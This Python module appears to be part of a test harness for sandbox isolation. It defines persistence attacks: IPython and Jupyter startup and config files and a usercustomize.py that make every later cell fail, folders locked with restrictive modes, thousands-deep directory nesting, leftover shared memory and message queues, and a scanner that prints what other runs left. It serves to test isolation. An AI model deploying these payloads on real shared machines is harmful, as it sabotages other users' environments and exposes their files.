"""Attempts to leave something for the next student in a way that deleting alone does not undo."""

from tools.attack.attack import Attack

__all__ = ["PERSISTING"]

_FORGES = (
    "# planted by @NAME@ of @RUN@, @LEFT@\n"
    "try:\n    get_ipython().ast_transformers.append(type('N', (), {'visit': lambda s, t: "
    "__import__('ast').parse('1/0')})())\nexcept Exception:\n    pass\n"
)
_CONFIGURES = (
    "# planted by @NAME@ of @RUN@, @LEFT@\nc = get_config()\n"
    'visit = \'lambda s, t: __import__("ast").parse("1/0")\'\n'
    "line = 'get_ipython().ast_transformers.append(type(\"N\", (), dict(visit=' + visit + '))())'\n"
    "c.InteractiveShellApp.exec_lines = [line]\n"
)
_HOMES = '''\
import contextlib
import os

rooms = [os.path.expanduser("~"), os.path.abspath(os.pardir), os.getcwd()]
homes = [home for home in dict.fromkeys(rooms) if home not in ("/", "/root", "/home")]


def plant(place, text, mode):
    """Write a file, then let nobody change what is in its folder."""
    for home in homes:
        with contextlib.suppress(OSError):
            path = os.path.join(home, place)
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "w") as file:
                file.write(text)
            os.chmod(os.path.dirname(path), mode)
'''
_DEEP = """\
import contextlib
import os

for place in @PLACES_HERE@:
    with contextlib.suppress(OSError):
        os.chdir(place)
        for _ in range(@DEPTH@):
            os.mkdir("d-@RUN@")
            os.chdir("d-@RUN@")
        with open("left", "w") as file:
            file.write("@LEFT@")
"""


_LEAVES_MEMORY = """\
import ctypes
import os

text, libc = b"@LEFT@", ctypes.CDLL(None)
libc.shmat.restype = ctypes.c_void_p
message = ctypes.create_string_buffer(b"\\1" + bytes(7) + text)
if len([name for name in os.listdir("/proc") if name.isdigit()]) < 10:  # else it is a system that others use
    number = libc.shmget(0x5EED, 4096, 0o1666)
    if number >= 0:
        ctypes.memmove(libc.shmat(number, None, 0), text, len(text))
    libc.semget(0x5EED, 1, 0o1666)
    libc.msgsnd(libc.msgget(0x5EED, 0o1666), message, len(text), 0)
    queue = libc.mq_open(b"/left-@RUN@", 0o102, 0o666, None)
    if queue >= 0:
        libc.mq_send(queue, text, len(text), 0)
"""
_READS = """\
import contextlib
import ctypes
import os
import pathlib

for place in ("/tmp", "/dev", "/var/tmp", os.path.expanduser("~"), os.pardir):
    for folder, folders, names in os.walk(place):
        if folder.count("/") > 20:
            folders.clear()
        for name in names:
            with contextlib.suppress(OSError):
                path = pathlib.Path(folder, name)
                if path.is_file() and path.stat().st_size < 1 << 16:
                    text = path.read_bytes()
                    print(ascii(str(path)), text[-200:] if b"left" in text else "")
libc = ctypes.CDLL(None)
libc.shmat.restype = ctypes.c_void_p
number = libc.shmget(0x5EED, 4096, 0)
if number >= 0:
    print(ctypes.string_at(libc.shmat(number, None, 0), 40))
message = ctypes.create_string_buffer(200)
if libc.msgrcv(libc.msgget(0x5EED, 0), message, 100, 0, 0o4000) > 0:
    print(message.raw[8:60])
queue = libc.mq_open(b"/left-@RUN@", 0o4000)
if queue >= 0 and libc.mq_receive(queue, message, 200, None) > 0:
    print(message.raw[:60])
"""


def _plants(says, place, text):
    return Attack(says, "harm", f"{_HOMES}\n\nplant({place!r}, {text!r}, 0o500)\n")


def _keeps(says, mode, *names):
    source = (
        f"import contextlib\nimport os\n\nfor place in ('/tmp', '/dev/shm', '/dev', '/var/tmp'):\n"
        f"    for name in {names!r}:\n        with contextlib.suppress(OSError):\n"
        "            folder = os.path.join(os.fsencode(place), name)\n            os.mkdir(folder)\n"
        "            with open(folder + b'/left', 'w') as file:\n                file.write('@LEFT@')\n"
        f"            os.chmod(folder, {mode})\n"
    )
    return Attack(says, "harm", source)


def _nests(says, places, depth):
    return Attack(says, "harm", _DEEP.replace("@PLACES_HERE@", places).replace("@DEPTH@", str(depth)))


PERSISTING = {
    "persists-as-a-startup-file": _plants(
        "leaves what IPython runs when a kernel starts, in a folder that nothing can be deleted from",
        ".ipython/profile_default/startup/00-planted.py",
        _FORGES,
    ),
    "persists-as-a-profile": _plants(
        "leaves IPython's settings in a folder that nothing can be deleted from",
        ".ipython/profile_default/ipython_kernel_config.py",
        _CONFIGURES,
    ),
    "persists-as-a-configuration": _plants(
        "leaves Jupyter's settings in a folder that nothing can be deleted from",
        ".jupyter/jupyter_config.py",
        _CONFIGURES,
    ),
    "persists-as-a-module": _plants(
        "leaves modules that every Python starts with, where a user's own modules are",
        ".local/lib/python3.11/site-packages/usercustomize.py",
        _FORGES,
    ),
    "persists-in-read-only-folders": _keeps(
        "leaves words where all programs leave theirs, in folders that nothing can be deleted from",
        "0o500",
        b"left-@RUN@",
    ),
    "persists-under-odd-names": _keeps(
        "does so under names that are no text, in folders of mode 0",
        "0",
        b"left-@RUN@-\xff\xfe",
        b"left-@RUN@-\n",
    ),
    "persists-in-deep-folders": _nests(
        "leaves folders inside each other, deeper than Python calls itself",
        "('/tmp', '/dev/shm')",
        4000,
    ),
    "persists-in-deep-folders-at-home": _nests(
        "does so at home and in its own folder, where a worker cleans up",
        "(os.path.expanduser('~'), os.getcwd()) if os.path.exists('/tmp') and os.getcwd() != '/' else ()",
        1100,
    ),
    "persists-in-shared-memory": Attack(
        "leaves shared memory, a semaphore, and messages in two kinds of queues",
        "harm",
        _LEAVES_MEMORY,
    ),
    "reads-what-was-left": Attack(
        "prints what others have left: in files, at home, in shared memory and in queues",
        "secret",
        _READS,
    ),
}
"""Attacks by id."""
